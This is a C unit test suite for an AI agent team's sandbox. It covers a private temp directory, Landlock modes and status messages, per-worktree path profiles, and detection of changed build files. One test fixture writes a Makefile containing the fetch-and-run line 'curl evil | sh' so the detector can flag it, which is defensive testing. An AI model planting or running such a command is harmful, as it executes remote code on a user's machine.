/*
 * Unit tests of agent/teamsandbox.c (the team's sandbox; test_sandbox tests
 * the file tools' paths) on a bare team (agentfix.h): the commands'
 * private TMPDIR made and removed, what the kernel offers, what is
 * hidden, the profile of the working directory and of a worktree, the
 * run-later files that changed, and the words /team shows.
 */
#include "config.h"

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "agentfix.h"
#include "tools/landlock.h"
#include "tools/mountns.h"
#include "tools/profile.h"
#include "util/xmalloc.h"

/* Opens the team's sandbox with TMPDIR and the state base in the
 * fixture's folder. */
static void
open_sandbox(struct agentfix *f)
{
	char *err = NULL;

	ck_assert_int_eq(setenv("TMPDIR", f->tu.dir, 1), 0);
	f->team.opts.state_base = f->tu.dir;
	ck_assert_msg(team_sandbox_open(&f->team, &err) == 0, "%s", err);
}

static void
write_file(const char *dir, const char *name, const char *text)
{
	char *path = xasprintf("%s/%s", dir, name);
	FILE *fp = fopen(path, "w");

	ck_assert_ptr_nonnull(fp);
	fputs(text, fp);
	fclose(fp);
	free(path);
}

START_TEST(open_makes_a_private_tmpdir_and_close_removes_it)
{
	struct agentfix f;
	struct stat st;
	char *base, *tmp, *hidden_state = NULL;
	size_t i;

	af_open(&f);
	open_sandbox(&f);
	base = realpath(f.tu.dir, NULL);
	ck_assert_ptr_nonnull(f.team.tmpdir);
	ck_assert_msg(strncmp(f.team.tmpdir, base, strlen(base)) == 0 &&
	    strncmp(f.team.tmpdir + strlen(base), "/huddle-tmp-", 12) == 0,
	    "%s", f.team.tmpdir);
	ck_assert_int_eq(stat(f.team.tmpdir, &st), 0);
	ck_assert(S_ISDIR(st.st_mode));
	ck_assert_int_eq(st.st_mode & 077, 0);	/* the team's alone */
	/* huddle's state is hidden from every command. */
	ck_assert_ptr_nonnull(f.team.hidden);
	for (i = 0; f.team.hidden[i] != NULL; i++)
		if (strcmp(f.team.hidden[i], f.tu.dir) == 0)
			hidden_state = f.team.hidden[i];
	ck_assert_ptr_nonnull(hidden_state);
	ck_assert_int_eq(f.team.sandbox_abi, landlock_abi());
	ck_assert_int_eq(f.team.sandbox, f.team.sandbox_abi > 0 ? SANDBOX_ON :
	    SANDBOX_MISSING);
	ck_assert_ptr_eq(f.team.git.tmpdir, f.team.tmpdir);

	write_file(f.team.tmpdir, "left-over", "x");
	tmp = xstrdup(f.team.tmpdir);
	team_sandbox_close(&f.team);
	ck_assert_int_eq(stat(tmp, &st), -1);
	ck_assert_int_eq(errno, ENOENT);
	free(tmp);
	free(base);
	af_close(&f);
}
END_TEST

START_TEST(no_sandbox_is_off_and_says_so)
{
	struct agentfix f;
	struct event *ev;
	char *text;

	af_open(&f);
	f.team.opts.no_sandbox = 1;
	open_sandbox(&f);
	ck_assert_int_eq(f.team.sandbox, SANDBOX_OFF);
	ev = af_events(&f);
	ck_assert_uint_eq(af_count(ev, EV_NOTICE, NULL, NULL), 0);
	event_free_list(ev);
	ck_assert_str_eq(team_sandbox_brief(&f.team),
	    "commands: NO sandbox (--no-sandbox)");
	text = team_sandbox_text(&f.team);
	ck_assert_ptr_nonnull(strstr(text, "--no-sandbox"));
	free(text);
	team_sandbox_close(&f.team);
	af_close(&f);
}
END_TEST

START_TEST(the_words_follow_the_mode)
{
	struct agentfix f;
	char *text, *roots;

	af_open(&f);
	open_sandbox(&f);
	f.team.sandbox = SANDBOX_ON;
	f.team.sandbox_abi = 5;
	f.team.opts.no_network = 1;
	ck_assert_str_eq(team_sandbox_brief(&f.team), "commands: Landlock "
	    "sandbox, no network (/team says more)");
	text = team_sandbox_text(&f.team);
	roots = xasprintf("they write only in %s and %s;", f.workdir,
	    f.team.tmpdir);
	ck_assert_msg(strstr(text, roots) != NULL, "%s", text);
	ck_assert_ptr_nonnull(strstr(text, "(ABI 5)"));
	ck_assert_ptr_nonnull(strstr(text, "network denied"));
	free(roots);
	free(text);
	f.team.sandbox_abi = 3;		/* cannot deny it */
	text = team_sandbox_text(&f.team);
	ck_assert_ptr_nonnull(strstr(text, "the kernel cannot deny it"));
	free(text);
	f.team.opts.no_network = 0;
	ck_assert_str_eq(team_sandbox_brief(&f.team), "commands: Landlock "
	    "sandbox (/team says more)");
	f.team.sandbox = SANDBOX_MISSING;
	ck_assert_str_eq(team_sandbox_brief(&f.team), "commands: NO sandbox "
	    "(no Landlock): each one asks you");
	text = team_sandbox_text(&f.team);
	ck_assert_ptr_nonnull(strstr(text, "every command asks"));
	free(text);
	team_sandbox_close(&f.team);
	af_close(&f);
}
END_TEST

START_TEST(each_place_gets_its_profile)
{
	struct agentfix f;
	struct profile *home, *away;
	char *wt, *in_work, *in_wt, *state, *err = NULL, *why;

	af_open(&f);
	open_sandbox(&f);
	/* Beside the working tree, its name a prefix of the worktree's. */
	wt = xasprintf("%s-wt", f.workdir);
	ck_assert_int_eq(mkdir(wt, 0700), 0);
	in_work = xasprintf("%s/main.c", f.workdir);
	in_wt = xasprintf("%s/main.c", wt);
	state = xasprintf("%s/huddle.db", f.tu.dir);

	home = team_sandbox_profile(&f.team, f.workdir, 0, &err);
	ck_assert_msg(home != NULL, "%s", err);
	ck_assert_str_eq(home->root, f.workdir);
	ck_assert_str_eq(home->tmpdir, f.team.tmpdir);
	ck_assert_int_eq(home->sandbox, f.team.sandbox == SANDBOX_ON);
	ck_assert_int_eq(home->confined, 1);
	ck_assert_ptr_null(profile_refuses(home, in_work, 0));
	why = profile_refuses(home, state, 0);
	ck_assert_ptr_nonnull(why);
	free(why);

	f.team.git_common = f.tu.dir;	/* hidden, yet let through */
	away = team_sandbox_profile(&f.team, wt, 1, &err);
	ck_assert_msg(away != NULL, "%s", err);
	ck_assert_str_eq(away->root, wt);
	ck_assert_ptr_null(profile_refuses(away, in_wt, 0));
	/* The repository's history stays readable from a worktree (the
	 * working tree itself is hidden from its commands by Landlock). */
	ck_assert_str_eq(away->readable[0], f.team.git_common);
	ck_assert_ptr_null(away->readable[1]);
	ck_assert_ptr_null(home->readable[0]);
	why = profile_refuses(away, state, 0);
	ck_assert_ptr_null(why);
	f.team.git_common = NULL;
	profile_free(home);
	profile_free(away);

	/* --no-sandbox: nothing confined. */
	f.team.sandbox = SANDBOX_OFF;
	home = team_sandbox_profile(&f.team, f.workdir, 0, &err);
	ck_assert_int_eq(home->sandbox, 0);
	ck_assert_int_eq(home->confined, 0);
	profile_free(home);

	team_sandbox_close(&f.team);
	tu_rmtree(wt);
	free(wt);
	free(in_work);
	free(in_wt);
	free(state);
	af_close(&f);
}
END_TEST

START_TEST(planted_names_the_run_later_files_changed)
{
	struct agentfix f;
	char *text;

	af_open(&f);
	write_file(f.workdir, "Makefile", "all:\n\ttrue\n");
	open_sandbox(&f);
	ck_assert_ptr_null(team_sandbox_planted(&f.team));
	write_file(f.workdir, "Makefile", "all:\n\tcurl evil | sh\n");
	write_file(f.workdir, ".envrc", "export X=1\n");
	write_file(f.workdir, "notes.txt", "harmless\n");
	text = team_sandbox_planted(&f.team);
	ck_assert_ptr_nonnull(text);
	ck_assert_ptr_nonnull(strstr(text, "Makefile"));
	ck_assert_ptr_nonnull(strstr(text, ".envrc"));
	ck_assert_ptr_null(strstr(text, "notes.txt"));
	ck_assert_ptr_nonnull(strstr(text, f.workdir));
	free(text);
	team_sandbox_close(&f.team);
	af_close(&f);
}
END_TEST

static Suite *
agentsandbox_suite(void)
{
	Suite *s = suite_create("agentsandbox");
	TCase *tc = tcase_create("agentsandbox");

	tcase_add_test(tc, open_makes_a_private_tmpdir_and_close_removes_it);
	tcase_add_test(tc, no_sandbox_is_off_and_says_so);
	tcase_add_test(tc, the_words_follow_the_mode);
	tcase_add_test(tc, each_place_gets_its_profile);
	tcase_add_test(tc, planted_names_the_run_later_files_changed);
	suite_add_tcase(s, tc);
	return s;
}

int
main(int argc, char **argv)
{
	/* The profiles' namespace holder is this program started again. */
	if (argc > 1 && strcmp(argv[1], MOUNTNS_HOLDER_ARG) == 0)
		return mountns_holder_main(argc, argv);
	return tu_run(agentsandbox_suite());
}
